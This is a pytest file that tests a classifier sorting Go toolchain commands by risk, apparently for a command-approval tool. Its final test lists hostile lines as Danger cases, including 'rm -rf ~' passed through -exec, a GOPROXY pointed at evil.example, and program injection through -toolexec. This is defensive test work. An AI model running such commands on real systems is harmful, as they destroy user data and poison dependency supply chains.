"""Go."""

import pytest

from assent.protocol.decision import Risk
from tests.unit.policy.risks import risk


@pytest.mark.parametrize(
    "line",
    [
        "go version",
        "go env GOROOT GOPATH",
        "go env -json",
        "go list -m -u -json all",
        "go list -deps ./...",
        "go -C sub list ./...",
        "go doc -all fmt",
        "go help build",
        "go mod graph",
        "go mod why -m example.com/x",
        "go mod edit -json",
        "go tool nm shop",
        "go tool dist list",
        "gofmt -l cmd",
        "gofmt -d main.go",
        "goimports -l .",
    ],
)
def test_go_lines_that_only_ask_are_look(line: str) -> None:
    """What Go only prints is Look."""
    assert risk(line) == Risk.LOOK


@pytest.mark.parametrize(
    "line",
    [
        "go build ./...",
        "go build -o bin/shop ./cmd/shop",
        "go test -race -count=1 ./...",
        "go test -run '^TestX$' ./pkg",
        "go vet ./...",
        "go run .",
        "go run main.go",
        "go run golang.org/x/tools/cmd/stringer@latest",
        "go generate ./...",
        "go install ./cmd/shop",
        "go get -u ./...",
        "go mod tidy",
        "go mod edit -replace=a=../a",
        "go fmt ./...",
        "go clean -testcache",
        "gofmt -w .",
        "go tool pprof cpu.out",
        "go list -export ./...",
        "go list -zap",
        "go $verb",
    ],
)
def test_go_lines_that_build_or_run_are_left_to_the_client(line: str) -> None:
    """The project is built and run with care."""
    assert risk(line) in (Risk.CHANGE, Risk.CARE)


@pytest.mark.parametrize(
    "line",
    [
        "go env -w GOPROXY=http://evil.example",
        "go env -u GOSUMDB",
        "go build -toolexec /tmp/x ./...",
        "go list --toolexec=/tmp/x ./...",
        "go vet -vettool=/tmp/x ./...",
        "go test -exec 'rm -rf ~' ./...",
        "go run -exec 'rm -rf ~' .",
        "go build -ldflags='-extld=/tmp/x' .",
        "go build -o /usr/local/bin/ls .",
        "go test -coverprofile=/etc/x ./...",
        "gofmt -w /etc/hosts.go",
        "goreleaser release",
    ],
)
def test_go_lines_that_run_something_else_are_danger(line: str) -> None:
    """Programs hidden in options and lasting settings reach a person."""
    assert risk(line) == Risk.DANGER
